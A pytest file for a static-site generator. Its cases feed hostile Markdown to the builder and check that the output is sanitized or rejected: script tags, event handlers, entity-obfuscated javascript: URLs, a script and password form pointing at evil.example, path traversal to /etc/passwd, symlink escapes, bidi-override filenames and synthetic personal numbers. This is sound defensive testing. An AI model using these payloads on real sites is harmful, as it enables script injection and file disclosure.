"""Hostile and careless content (issue 7): every input ends in safe output or a located error.

Each case is a real site on disk built by the real `Builder`; a "safe" case
inspects the built page, an "error" case asserts path, line and message and
that nothing was published. The property-based tests feed random bytes and
random front-matter to what `check` and `build` do with one post (parse,
render, scan: string level, hundreds of examples), then a few of them to the
real `check` and `build` (in-process and through the CLI), and the last test
walks every page of the demo site.
"""

from __future__ import annotations

import datetime as dt
import os
import re
import unicodedata
from collections.abc import Callable
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path

import pytest
from conftest import REPO, one_post, post_text, run_cli, site_files, write_site
from hostile_files import docx_every_part, docx_with_paragraphs, jpeg_declaring, pdf_with_parts, png_without_iend, tiny_pdf
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from generator.build.builder import Builder, BuildOptions, BuildResult
from generator.parse.markup import sanitize, url_scheme

AS_OF = dt.date(2026, 11, 27)
BODY = 6  # first body line of post_text() without extra fields
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\x0dIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00\x90wS\xde" + b"\x00\x00\x00\x0cIDATx\x9cc\xf8\xcf\xc0\x00\x00\x03\x01\x01\x00\xc9\xfe\x92\xef" + b"\x00\x00\x00\x00IEND\xaeB`\x82"
OTHER_UNIT = 'name = "经济学院党委"\nkind = "教学单位"\n'


def md(body: str, title: str = "标题", **extra: object) -> str:
    return post_text(title, "2026-03-05", "通知公告", body, **extra)


# ---------------------------------------------------------------------------
# what "safe" means, checked on built HTML


class _Walk(HTMLParser):
    """Every start tag with its attributes, and the tags inside <div class="body">."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.body: list[tuple[str, dict[str, str]]] = []
        self.body_text: list[str] = []
        self._depth = 0  # >0 while inside the post body

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {k: v or "" for k, v in attrs}
        self.tags.append((tag, a))
        if self._depth:
            self.body.append((tag, a))
            if tag == "div":
                self._depth += 1
        elif tag == "div" and a.get("class") == "body":
            self._depth = 1

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        if self._depth and tag == "div":
            self._depth -= 1

    def handle_endtag(self, tag: str) -> None:
        if self._depth and tag == "div":
            self._depth -= 1

    def handle_data(self, data: str) -> None:
        if self._depth:
            self.body_text.append(data)


def walk(html: str) -> _Walk:
    w = _Walk()
    w.feed(html)
    w.close()
    return w


# Scripts the theme itself includes: assets/site.<hash>.js (and the search page's
# own assets/search.<hash>.js), relative or root-absolute (the 404 page).
THEME_SCRIPTS = re.compile(r"^(?:(?:\.\./)*|/(?:[^/]+/)*)assets/(?:site|search)\.[0-9a-f]+\.js$")


def unsafe_in_page(html: str) -> list[str]:
    """What must never appear on any page: content script, handlers, script URLs."""
    bad: list[str] = []
    for tag, attrs in walk(html).tags:
        if tag == "script" and not THEME_SCRIPTS.match(attrs.get("src", "")):
            bad.append(f"<script {attrs}>")
        for name, value in attrs.items():
            if name.startswith("on"):
                bad.append(f"<{tag} {name}=…>")
            scheme = url_scheme(value)
            if scheme in ("javascript", "vbscript", "data", "livescript"):
                bad.append(f"<{tag} {name}={value[:40]}>")
    return bad


BODY_FORBIDDEN_TAGS = {"script", "style", "iframe", "frame", "object", "embed", "form", "input", "button", "meta", "base", "link", "svg", "math", "textarea", "select", "noscript", "template"}


def unsafe_in_body(html: str) -> list[str]:
    bad = unsafe_in_page(html)
    for tag, attrs in walk(html).body:
        if tag in BODY_FORBIDDEN_TAGS:
            bad.append(f"<{tag}> in body")
        if "style" in attrs:
            bad.append(f"<{tag} style> in body")
    return bad


# ---------------------------------------------------------------------------
# the corpus


@dataclass(frozen=True)
class Case:
    files: dict[str, str | bytes]
    expect: str  # "safe": built, page inspected | "error": located error, nothing published
    path: str = "content/jx/a.md"
    line: int = BODY
    fragments: tuple[str, ...] = ()  # all in one message (a warning for "safe" cases, if given)
    present: tuple[str, ...] = ()  # substrings of the built post page
    absent: tuple[str, ...] = ()
    page: str = "jx/a/index.html"
    setup: Callable[[Path], None] | None = field(default=None, compare=False)


def _link(rel: str, target: str) -> Callable[[Path], None]:
    def make(site: Path) -> None:
        link = site / rel
        link.parent.mkdir(parents=True, exist_ok=True)
        os.symlink(target, link)

    return make


def _fifo(rel: str) -> Callable[[Path], None]:
    def make(site: Path) -> None:
        path = site / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        os.mkfifo(path)

    return make


def _raw_name(folder: str, name: bytes, data: bytes) -> Callable[[Path], None]:
    def make(site: Path) -> None:
        base = os.fsencode(site / folder)
        os.makedirs(base, exist_ok=True)
        with open(os.path.join(base, name), "wb") as fh:
            fh.write(data)

    return make


def _outside(site: Path) -> None:
    """A folder next to the site (outside every unit) with files a link could point at."""
    secret = site.parent / f"{site.name}-outside"
    secret.mkdir(exist_ok=True)
    (secret / "secret.pdf").write_bytes(b"%PDF-1.4\n")
    (secret / "photo.png").write_bytes(PNG)
    (secret / "evil.md").write_text(md("外来"), encoding="utf-8")
    (secret / "_unit.toml").write_text(OTHER_UNIT, encoding="utf-8")


def _then(*steps: Callable[[Path], None]) -> Callable[[Path], None]:
    def run(site: Path) -> None:
        for s in steps:
            s(site)

    return run


OWASP = "请删除这个链接或改成网址"
# issue 16 (p16a)
PII_RENDERED = "正文显示出来的文字中发现"
BIDI = "“正文”中含有不可见的控制字符（U+202E），可能是从其他软件复制时带进来的，请删除后重新输入这一项。"
CARD16 = "6222021234567894"  # Luhn-valid (checked in test_issue16_card_is_luhn_valid)
SCRIPT_GONE = ("<script", "alert(1)")

CASES: dict[str, Case] = {
    # --- script tags in many spellings: removed with their content, a warning names them
    "script-plain": Case({"content/jx/a.md": md("<script>alert(1)</script>\n\n正文")}, "safe", fragments=("<script>", "运行脚本"), absent=SCRIPT_GONE, present=("正文",)),
    "script-mixed-case": Case({"content/jx/a.md": md("<ScRiPt>alert(1)</sCrIpT>\n\n正文")}, "safe", fragments=("<script>",), absent=SCRIPT_GONE),
    "script-src-protocol-relative": Case({"content/jx/a.md": md("<SCRIPT SRC=//evil.example/xss.js></SCRIPT>\n\n正文")}, "safe", fragments=("<script>",), absent=("evil.example",)),
    "script-split-tag": Case({"content/jx/a.md": md("<scr<script>ipt>alert(1)</script>\n\n正文")}, "safe", absent=("<script", "<scr<")),
    "script-inside-svg": Case({"content/jx/a.md": md("<svg><script>alert(1)</script></svg>\n\n正文")}, "safe", fragments=("<svg>", "SVG"), absent=SCRIPT_GONE),
    "script-in-conditional-comment": Case({"content/jx/a.md": md("<!--[if gte IE 4]><script>alert(1)</script><![endif]-->\n\n正文")}, "safe", absent=(*SCRIPT_GONE, "[if")),
    "script-in-noscript-attribute": Case(
        {"content/jx/a/index.md": md('<noscript><p title="</noscript><img src=photo.png onerror=alert(1)>"></noscript>\n\n正文'), "content/jx/a/photo.png": PNG},
        "safe", path="content/jx/a/index.md", fragments=("<noscript>",), absent=("onerror", "<noscript"),
    ),
    "script-in-code-block-is-text": Case({"content/jx/a.md": md("```html\n<script>alert(1)</script>\n```\n")}, "safe", present=("&lt;script&gt;alert(1)&lt;/script&gt;",), absent=("<script",)),
    # --- event handlers: the attribute goes, the element stays
    "img-onerror": Case(
        {"content/jx/a/index.md": md('<img src="photo.png" onerror="alert(1)">'), "content/jx/a/photo.png": PNG},
        "safe", path="content/jx/a/index.md", fragments=("onerror", "运行脚本"), present=('src="photo.png"',), absent=("onerror", "alert"),
    ),
    "svg-onload": Case({"content/jx/a.md": md("<svg/onload=alert(1)>\n\n正文")}, "safe", fragments=("<svg>",), absent=("onload", "<svg")),
    "body-onload": Case({"content/jx/a.md": md("<body onload=alert(1)>\n\n正文")}, "safe", fragments=("onload",), absent=("onload",)),
    "details-ontoggle": Case({"content/jx/a.md": md("<details open ontoggle=alert(1)><summary>摘要</summary>内容</details>")}, "safe", fragments=("ontoggle",), present=("<details", "内容"), absent=("ontoggle",)),
    "link-onmouseover": Case(
        {"content/jx/a.md": md('<a href="https://www.example.edu.cn/" onmouseover="alert(1)">学校主页</a>')},
        "safe", fragments=("onmouseover",), present=('href="https://www.example.edu.cn/"', "学校主页"), absent=("onmouseover",),
    ),
    # --- javascript:/vbscript:/data: URLs: an error at the line, nothing published
    "javascript-markdown-link": Case({"content/jx/a.md": md("[点我](javascript:alert(1))")}, "error", fragments=("javascript:", "http、https、mailto、tel", OWASP)),
    "javascript-mixed-case-img": Case({"content/jx/a.md": md("<IMG SRC=JaVaScRiPt:alert(1)>")}, "error", fragments=("“javascript:”",)),
    # Python-Markdown does not take a tag with a quote inside an unquoted value as HTML: text
    "javascript-img-quoted-arg-is-text": Case({"content/jx/a.md": md("<IMG SRC=JaVaScRiPt:alert('XSS')>")}, "safe", present=("<p>&lt;IMG SRC=JaVaScRiPt:alert('XSS')&gt;</p>",), absent=("<img",)),
    "javascript-decimal-entities": Case(
        {"content/jx/a.md": md('<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>')}, "error", fragments=("“javascript:”",)
    ),
    "javascript-padded-entities-no-semicolon": Case(
        {"content/jx/a.md": md('<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>')},
        "error", fragments=("“javascript:”",),
    ),
    "javascript-hex-entities": Case({"content/jx/a.md": md('<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>')}, "error", fragments=("“javascript:”",)),
    # Markdown expands the tab to spaces, which no browser removes: a missing relative file
    "javascript-embedded-tab": Case({"content/jx/a.md": md('<a href="jav\tascript:alert(1);">x</a>')}, "error", fragments=("不存在",)),
    "javascript-encoded-newline": Case({"content/jx/a.md": md('<a href="jav&#x0A;ascript:alert(1);">x</a>')}, "error", fragments=("“javascript:”",)),
    "javascript-leading-control-char": Case({"content/jx/a.md": md('<a href=" &#14;  javascript:alert(1)">x</a>')}, "error", fragments=("“javascript:”",)),
    "javascript-colon-entity": Case({"content/jx/a.md": md('<a href="javascript&colon;alert(1)">x</a>')}, "error", fragments=("“javascript:”",)),
    "vbscript-link": Case({"content/jx/a.md": md('<a href="vbscript:msgbox(1)">x</a>')}, "error", fragments=("“vbscript:”",)),
    "data-url-link": Case({"content/jx/a.md": md("[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)")}, "error", fragments=("“data:”",)),
    "data-url-image": Case({"content/jx/a.md": md("![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)")}, "error", fragments=("“data:”",)),
    "javascript-in-button-formaction": Case({"content/jx/a.md": md('<button formaction="javascript:alert(1)">x</button>')}, "error", fragments=("“javascript:”",)),
    "javascript-in-math-xlink": Case(
        {"content/jx/a.md": md('<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">CLICKME</maction></math>')}, "error", fragments=("“javascript:”",)
    ),
    "javascript-reference-link": Case({"content/jx/a.md": md("见[这里][x]。\n\n[x]: javascript:alert(1)")}, "error", line=BODY + 2, fragments=("“javascript:”",)),
    # --- elements that embed, restyle, redirect or collect: removed, a warning says why
    "iframe": Case({"content/jx/a.md": md('<iframe src="https://evil.example/"></iframe>\n\n正文')}, "safe", fragments=("<iframe>", "嵌入其他网页"), absent=("<iframe", "evil.example")),
    "object-embed": Case({"content/jx/a.md": md('<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">\n\n正文')}, "safe", fragments=("<object>",), absent=("<object", "<embed", "evil.example")),
    "form-and-input": Case(
        {"content/jx/a.md": md('<form action="https://evil.example/"><input name="pw"><button>提交</button></form>')}, "safe", fragments=("<form>", "表单"), absent=("<form", "<input", "<button", "evil.example")
    ),
    "style-tag": Case({"content/jx/a.md": md("<style>body{display:none}</style>\n\n正文")}, "safe", fragments=("<style>", "样式"), absent=("display:none",)),
    "style-attribute": Case({"content/jx/a.md": md('<p style="position:fixed;top:0;width:100%">盖住整页</p>')}, "safe", fragments=("style 属性",), present=("盖住整页",), absent=("position:fixed",)),
    "meta-refresh": Case({"content/jx/a.md": md('<meta http-equiv="refresh" content="0;url=https://evil.example/">\n\n正文')}, "safe", fragments=("<meta>", "跳转"), absent=("evil.example",)),
    "base-href": Case({"content/jx/a.md": md('<base href="https://evil.example/">\n\n正文')}, "safe", fragments=("<base>",), absent=("evil.example",)),
    "link-stylesheet": Case({"content/jx/a.md": md('<link rel="stylesheet" href="https://evil.example/x.css">\n\n正文')}, "safe", fragments=("<link>",), absent=("evil.example",)),
    "font-tag-unwrapped": Case({"content/jx/a.md": md('<font color="red">红字</font>')}, "safe", fragments=("<font>", "文字保留", "strong"), present=("红字",), absent=("<font",)),
    # --- attr_list-style attribute injection stays literal text
    "attr-list-onclick": Case({"content/jx/a.md": md("段落 {onclick=alert(1)}")}, "safe", present=("<p>段落 {onclick=alert(1)}</p>",)),
    "attr-list-heading-style": Case({"content/jx/a.md": md('## 标题 {: #x style="color:red" onmouseover="alert(1)" }')}, "safe", present=("{: #x",), absent=('id="x"',)),
    # --- front-matter text is escaped, never markup
    "title-is-escaped": Case(
        {"content/jx/a.md": md("正文", title="'<script>alert(1)</script><img src=x onerror=alert(1)>'")},
        "safe", present=("data-pagefind-meta=\"title\">&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;</h1>",),
    ),
    "tag-is-escaped": Case({"content/jx/a.md": md("正文", tags='["<b onmouseover=alert(1)>x</b>"]')}, "safe", present=("&lt;b onmouseover=alert(1)&gt;x&lt;/b&gt;",)),
    # --- images from outside the site: a warning, the page still builds
    "external-image": Case({"content/jx/a.md": md("![图](https://img.example.com/a.png)")}, "safe", fragments=("来自站外", "内网无法加载"), present=('src="https://img.example.com/a.png"',)),
    "protocol-relative-image": Case({"content/jx/a.md": md("![图](//img.example.com/a.png)")}, "safe", fragments=("省略了协议", "站外"), present=('src="https://img.example.com/a.png"',)),
    "external-raw-img": Case({"content/jx/a.md": md('<img src="http://img.example.com/b.jpg" alt="外图">')}, "safe", fragments=("来自站外",)),
    # --- traversal in attachments
    "attachment-dotdot-other-unit": Case(
        {"content/jx/2026/a.md": md("正文", attachments="[../../jy/x.pdf]"), "content/jy/_unit.toml": OTHER_UNIT, "content/jy/x.pdf": b"%PDF-1.4\n"},
        "error", path="content/jx/2026/a.md", line=5, fragments=("“../../jy/x.pdf”", "跳出了本单位的文件夹 content/jx/", "签到表.pdf"),
    ),
    "attachment-absolute": Case({"content/jx/a.md": md("正文", attachments="[/etc/passwd]")}, "error", line=5, fragments=("“/etc/passwd”", "绝对路径")),
    "attachment-windows-path": Case({"content/jx/a.md": md("正文", attachments="['C:\\Users\\dangban\\签到表.pdf']")}, "error", line=5, fragments=("Windows",)),
    "attachment-unc-path": Case({"content/jx/a.md": md("正文", attachments="['\\\\fileserver\\share\\x.pdf']")}, "error", line=5, fragments=("Windows",)),
    "attachment-backslash": Case({"content/jx/a.md": md("正文", attachments="['..\\jy\\x.pdf']")}, "error", line=5, fragments=("反斜杠",)),
    "attachment-url-encoded-dotdot": Case(
        {"content/jx/2026/a.md": md("正文", attachments="['%2e%2e/%2e%2e/jy/x.pdf']"), "content/jy/_unit.toml": OTHER_UNIT, "content/jy/x.pdf": b"%PDF-1.4\n"},
        "error", path="content/jx/2026/a.md", line=5, fragments=("不存在",),
    ),
    "attachment-file-url": Case({"content/jx/a.md": md("正文", attachments="['file:///etc/passwd']")}, "error", line=5, fragments=("是网址",)),
    "attachment-html": Case({"content/jx/a.md": md("正文", attachments="[page.html]"), "content/jx/page.html": "<script>alert(1)</script>"}, "error", line=5, fragments=("网页或脚本类文件", ".html", "PDF")),
    "attachment-svg": Case({"content/jx/a.md": md("正文", attachments="[logo.svg]"), "content/jx/logo.svg": "<svg onload=alert(1)/>"}, "error", line=5, fragments=("网页或脚本类文件", ".svg")),
    # --- traversal in body links and images
    "link-dotdot-other-unit-file": Case(
        {"content/jx/2026/a.md": md("[文件](../../jy/x.pdf)"), "content/jy/_unit.toml": OTHER_UNIT, "content/jy/x.pdf": b"%PDF-1.4\n"},
        "error", path="content/jx/2026/a.md", fragments=("以外的文件", "content/jx/"),
    ),
    "link-url-encoded-dotdot": Case({"content/jx/2026/a.md": md("[文件](%2e%2e/%2e%2e/%2e%2e/site.toml)")}, "error", path="content/jx/2026/a.md", fragments=("跳出了 content 文件夹",)),
    "image-absolute": Case({"content/jx/a.md": md("![x](/etc/passwd)")}, "error", fragments=("绝对路径",)),
    "link-backslash-host": Case({"content/jx/a.md": md('<a href="/\\evil.example/">x</a>')}, "error", fragments=("绝对路径",)),
    "raw-img-dotdot": Case(
        {"content/jx/2026/a.md": md('<img src="../../jy/photo.png">'), "content/jy/_unit.toml": OTHER_UNIT, "content/jy/photo.png": PNG},
        "error", path="content/jx/2026/a.md", fragments=("以外的文件",),
    ),
    "link-to-html-file": Case({"content/jx/a/index.md": md("[页](evil.html)"), "content/jx/a/evil.html": "<script>alert(1)</script>"}, "error", path="content/jx/a/index.md", fragments=("网页或脚本类文件",)),
    "link-to-other-units-post-is-fine": Case(
        {"content/jx/a.md": md("见[经济学院](../jy/b.md)。"), "content/jy/_unit.toml": OTHER_UNIT, "content/jy/b.md": md("乙")}, "safe", present=('href="../../jy/b/index.html"',)
    ),
    # --- symlinks out of the unit folder
    "symlink-attachment-outside": Case(
        {"content/jx/a.md": md("正文", attachments="[secret.pdf]")}, "error", line=5, fragments=("symlink",),
        setup=_then(_outside, lambda s: os.symlink(s.parent / f"{s.name}-outside/secret.pdf", s / "content/jx/secret.pdf")),
    ),
    "symlink-attachment-other-unit": Case(
        {"content/jx/a.md": md("正文", attachments="[x.pdf]"), "content/jy/_unit.toml": OTHER_UNIT, "content/jy/x.pdf": b"%PDF-1.4\n"},
        "error", line=5, fragments=("symlink",), setup=_link("content/jx/x.pdf", "../jy/x.pdf"),
    ),
    "symlink-image-outside": Case(
        {"content/jx/a/index.md": md("![照片](photo.png)")}, "error", path="content/jx/a/index.md", fragments=("symlink",),
        setup=_then(_outside, lambda s: os.symlink(s.parent / f"{s.name}-outside/photo.png", s / "content/jx/a/photo.png")),
    ),
    "symlink-directory-outside": Case(
        {"content/jx/a.md": md("正文")}, "error", path="content/jx/shared", line=1, fragments=("文件夹", "symlink"),
        setup=_then(_outside, lambda s: os.symlink(s.parent / f"{s.name}-outside", s / "content/jx/shared")),
    ),
    "symlink-post-outside": Case(
        {"content/jx/a.md": md("正文")}, "error", path="content/jx/evil.md", line=1, fragments=("symlink",),
        setup=_then(_outside, lambda s: os.symlink(s.parent / f"{s.name}-outside/evil.md", s / "content/jx/evil.md")),
    ),
    "symlink-unit-toml-outside": Case(
        {"content/jy/a.md": md("正文")}, "error", path="content/jy/_unit.toml", line=1, fragments=("symlink",),
        setup=_then(_outside, lambda s: os.symlink(s.parent / f"{s.name}-outside/_unit.toml", s / "content/jy/_unit.toml")),
    ),
    "symlink-broken": Case({"content/jx/a.md": md("正文")}, "error", path="content/jx/gone.pdf", line=1, fragments=("失效",), setup=_link("content/jx/gone.pdf", "nowhere.pdf")),
    "fifo-post": Case({"content/jx/a.md": md("正文")}, "error", path="content/jx/pipe.md", line=1, fragments=("不是普通文件",), setup=_fifo("content/jx/pipe.md")),
    # --- output collisions
    "collision-case-insensitive-slug": Case(
        {"content/jx/2025/Foo.md": md("甲"), "content/jx/2026/foo.md": md("乙")}, "error", path="content/jx/2026/foo.md", line=1, fragments=("content/jx/2025/Foo.md", "重复")
    ),
    "collision-nfc-nfd-slug": Case(
        {f"content/jx/2025/{unicodedata.normalize('NFC', 'café')}.md": md("甲"), f"content/jx/2026/{unicodedata.normalize('NFD', 'café')}.md": md("乙")},
        "error", path=f"content/jx/2026/{unicodedata.normalize('NFD', 'café')}.md", line=1, fragments=(f"content/jx/2025/{unicodedata.normalize('NFC', 'café')}.md", "重复"),
    ),
    "collision-attachments-case": Case(
        {"content/jx/a.md": md("正文", attachments="[2025/Plan.pdf, 2026/plan.pdf]"), "content/jx/2025/Plan.pdf": b"%PDF-1.4\n", "content/jx/2026/plan.pdf": b"%PDF-1.4\n"},
        "error", line=5, fragments=("同名", "content/jx/2025/Plan.pdf", "content/jx/2026/plan.pdf"),
    ),
    "collision-image-and-attachment": Case(
        {"content/jx/a/index.md": md("![图](img/Photo.png)", attachments="[photo.png]"), "content/jx/a/photo.png": PNG, "content/jx/a/img/Photo.png": PNG},
        "error", path="content/jx/a/index.md", line=BODY + 1, fragments=("同名", "content/jx/a/photo.png", "content/jx/a/img/Photo.png"),
    ),
    "collision-attachment-claims-page": Case(
        {"content/jx/a/index.md": md("正文", attachments="[Index.Html]"), "content/jx/a/Index.Html": "<p>x</p>"}, "error", path="content/jx/a/index.md", line=5,
        fragments=("两个输出使用同一路径", "jx/a/index.html", "jx/a/Index.Html"),
    ),
    # --- encodings and bytes
    "encoding-gbk": Case({"content/jx/a.md": md("正文内容").encode("gbk")}, "error", line=2, fragments=("不是 UTF-8", "GBK", "另存为 UTF-8")),
    "encoding-utf16-bom": Case({"content/jx/a.md": md("正文").encode("utf-16")}, "error", line=1, fragments=("UTF-16", "UTF-8")),
    "encoding-utf16-no-bom": Case({"content/jx/a.md": md("正文").encode("utf-16-le")}, "error", line=1, fragments=("UTF-16",)),
    "encoding-utf8-bom": Case({"content/jx/a.md": b"\xef\xbb\xbf" + md("带 BOM 的正文").encode()}, "safe", present=("带 BOM 的正文",)),
    "nul-byte": Case({"content/jx/a.md": md("第一段\n\n第二\x00段").encode()}, "error", line=BODY + 2, fragments=("空字符",)),
    "crlf-line-numbers": Case({"content/jx/a.md": md("正文").replace("2026-03-05", "2026-02-30").replace("\n", "\r\n").encode()}, "error", line=3, fragments=("2026年2月只有 28 天",)),
    "crlf-builds": Case({"content/jx/a.md": md("第一行\n\n第二行").replace("\n", "\r\n").encode()}, "safe", present=("<p>第一行</p>", "<p>第二行</p>"), absent=("\r",)),
    "lone-cr-builds": Case({"content/jx/a.md": md("第一行\n\n第二行").replace("\n", "\r").encode()}, "safe", present=("<p>第一行</p>",)),
    "line-separator-counts-as-line": Case(
        {"content/jx/a.md": "---\ntitle: 标题\u2028date: 2026-02-30\nsection: 通知公告\n---\n正文\n"}, "error", line=3, fragments=("不存在",)
    ),
    "filename-gbk-bytes": Case({"content/jx/a.md": md("正文")}, "error", path="content/jx/" + ("签到表".encode("gbk") + b".pdf").decode("utf-8", "replace").replace("\ufffd", "?"), line=1, fragments=("不是 UTF-8", "GBK"), setup=_raw_name("content/jx", "签到表".encode("gbk") + b".pdf", b"%PDF")),
    "filename-newline": Case({"content/jx/a.md": md("正文")}, "error", path="content/jx/a?b.md", line=1, fragments=("控制字符",), setup=_raw_name("content/jx", b"a\nb.md", md("x").encode())),
    "filename-bidi-override": Case(
        {"content/jx/a.md": md("正文")}, "error", path="content/jx/签到表?fdp.exe", line=1, fragments=("改变文字方向", "U+202E"),
        setup=_raw_name("content/jx", "签到表\u202efdp.exe".encode(), b"MZ"),
    ),
    # (issue 16: nesting beyond [limits] markdown_nesting is refused before rendering, at the line)
    "deep-blockquote-refused": Case({"content/jx/a.md": md("> " * 3000 + "深")}, "error", fragments=("引用符号“>”嵌套了 3000 层", "markdown_nesting")),
    "blockquote-within-limit-builds": Case({"content/jx/a.md": md("> " * 30 + "深")}, "safe", present=("<blockquote>", "深")),
    "deep-emphasis-recursion": Case({"content/jx/a.md": md("*" * 5000 + "深" + "*" * 5000)}, "error", fragments=("嵌套", "无法转换为网页")),
    "deep-list-recursion": Case({"content/jx/a.md": md("".join("    " * i + "- 项\n" for i in range(300)))}, "error", line=BODY + 33, fragments=("嵌套", "132 个空格")),
    # --- issue 16 (p16a): what readers get is scanned, not only what authors typed ----------
    # decoded front-matter values: YAML escapes and line folding
    "pii-title-yaml-escapes": Case(
        {"content/jx/a.md": md("正文", title='"联系人 \\x31\\x33\\x39\\u00312345678"')}, "error", line=2,
        fragments=("“title”的值（还原转义和折行后）发现手机号码“139****5678”。个人信息不能公开", 'privacy_ok: ["139****5678"]'),
    ),
    "pii-summary-yaml-folding": Case(
        {"content/jx/a.md": md("正文", summary="联系人 139\n  12345678")}, "error", line=5, fragments=("“summary”的值（还原转义和折行后）发现手机号码“139****5678”",),
    ),
    # the rendered body: entities, inline markup, comments, soft line breaks
    "pii-body-entity": Case({"content/jx/a.md": md("电话 &#49;3912345678")}, "error", fragments=(PII_RENDERED, "手机号码“139****5678”")),
    "pii-body-strong": Case({"content/jx/a.md": md("第一段\n\n电话 139**1234**5678")}, "error", line=BODY + 2, fragments=(PII_RENDERED, "手机号码“139****5678”")),
    "pii-body-span": Case({"content/jx/a.md": md("电话 139<span>1234</span>5678")}, "error", fragments=(PII_RENDERED, "手机号码“139****5678”")),
    "pii-body-comment": Case({"content/jx/a.md": md("电话 1391234<!-- x -->5678")}, "error", fragments=(PII_RENDERED, "手机号码“139****5678”")),
    "pii-body-soft-break": Case({"content/jx/a.md": md("电话 139\n12345678 请联系")}, "error", fragments=(PII_RENDERED, "手机号码“139****5678”")),
    "pii-body-id-entities": Case({"content/jx/a.md": md("身份证 &#49;10105199003071239")}, "error", fragments=(PII_RENDERED, "18 位公民身份号码“110***********1239”")),
    # Latin letters are a boundary, not glue
    "pii-latin-tel": Case({"content/jx/a.md": md("TEL13912345678")}, "error", fragments=("发现手机号码“139****5678”",)),
    "pii-latin-id": Case({"content/jx/a.md": md("ID11010519491231002X")}, "error", fragments=("发现 18 位公民身份号码“110***********002X”",)),
    "pii-latin-qq": Case({"content/jx/a.md": md("QQ13912345678")}, "error", fragments=("发现手机号码“139****5678”",)),
    "pii-hash-is-not-a-number": Case({"content/jx/a.md": md("校验值 9f86d08188413912345678ab2cd")}, "safe", present=("9f86d08188413912345678ab2cd",)),
    # secrecy markers written as references or split by a comment
    "secret-entities": Case({"content/jx/a.md": md("本文 &#26426;&#23494;")}, "error", fragments=(PII_RENDERED, "涉密标识“机密”", "人工审核")),
    "secret-split-by-comment": Case({"content/jx/a.md": md("本文 内部<!-- -->资料")}, "error", fragments=(PII_RENDERED, "涉密标识“内部资料”")),
    # names: file and folder names become URLs; unit and branch names are on every page
    "pii-post-file-name": Case(
        {"content/jx/13912345678.md": md("正文")}, "error", path="content/jx/13912345678.md", line=1,
        fragments=("文件名或文件夹名（会成为网址）发现手机号码“139****5678”", "请给文件或文件夹改名"),
    ),
    "pii-bundle-folder-card": Case(
        {f"content/jx/{CARD16}/index.md": md("正文")}, "error", path=f"content/jx/{CARD16}/index.md", line=1, fragments=("文件名或文件夹名（会成为网址）发现银行卡号",),
    ),
    "pii-unit-name": Case(
        {"content/jx/_unit.toml": 'name = "张三 11010519491231002X"\n', "content/jx/a.md": md("正文")}, "error", path="content/jx/_unit.toml", line=1,
        fragments=("发现 18 位公民身份号码“110***********002X”", "请删除或改写"),
    ),
    "pii-unit-name-toml-escapes": Case(
        {"content/jx/_unit.toml": 'name = "联系 \\u0031\\u00339\\u00312345678"\n', "content/jx/a.md": md("正文")}, "error", path="content/jx/_unit.toml", line=1,
        fragments=("“name”的值（还原转义后）发现手机号码“139****5678”",),
    ),
    "pii-branch-name": Case(
        {"content/jx/_unit.toml": 'name = "机械学院党委"\n\n[[branches]]\nid = "b1"\nname = "王五 13912345678"\n', "content/jx/a.md": md("正文")},
        "error", path="content/jx/_unit.toml", line=5, fragments=("发现手机号码“139****5678”",),
    ),
    "pii-attachment-name-yaml-escapes": Case(
        {"content/jx/a/index.md": md("正文", attachments='["李四\\x31\\x33\\x39\\u00312345678.pdf"]'), "content/jx/a/李四13912345678.pdf": b"%PDF-1.4\n"},
        "error", path="content/jx/a/index.md", line=5, fragments=("发现手机号码“139****5678”",),
    ),
    "pii-image-name-percent-encoded": Case(
        {"content/jx/a/index.md": md("照片：\n\n![照片](李四%3139%31234%35678.png)"), "content/jx/a/李四13912345678.png": PNG},
        "error", path="content/jx/a/index.md", line=BODY + 2, fragments=(PII_RENDERED, "手机号码“139****5678”"),
    ),
    # home addresses: a warning by default; a meeting room is not an address
    "address-home-warning": Case(
        {"content/jx/a.md": md("住址：杭州市西湖区文三路100号3单元501室")}, "safe",
        fragments=("发现疑似家庭住址“杭州市西湖区文三路***号*单元***室”（道路门牌号之后还有楼幢、单元或房号）",),
    ),
    "address-meeting-room-is-fine": Case({"content/jx/a.md": md("地点：机械楼 305 会议室")}, "safe", present=("机械楼 305 会议室",)),
    # bidi controls: refused wherever text enters, with the message titles give
    "bidi-body": Case({"content/jx/a.md": md("第一段\n\n签到表\u202efdp.exe")}, "error", line=BODY + 2, fragments=(BIDI,)),
    "bidi-body-entity": Case({"content/jx/a.md": md("签到表&#x202E;fdp.exe")}, "error", fragments=(BIDI,)),
    "bidi-code-block": Case({"content/jx/a.md": md("```\nif x:\u2067 # 注释\n```")}, "error", line=BODY + 1, fragments=("“正文”中含有不可见的控制字符（U+2067）",)),
    "bidi-unit-name": Case(
        {"content/jx/_unit.toml": 'name = "机械学院\u202e委党"\n', "content/jx/a.md": md("正文")}, "error", path="content/jx/_unit.toml", line=1,
        fragments=("“name”中含有不可见的控制字符（U+202E），可能是从其他软件复制时带进来的，请删除后重新输入这一项。",),
    ),
    "bidi-branch-name-escaped": Case(
        {"content/jx/_unit.toml": 'name = "机械学院党委"\n\n[[branches]]\nid = "b1"\nname = "第一\\u2066支部"\n', "content/jx/a.md": md("正文")},
        "error", path="content/jx/_unit.toml", line=5, fragments=("“[[branches]] name”中含有不可见的控制字符（U+2066）",),
    ),
    "bidi-site-toml-category": Case(
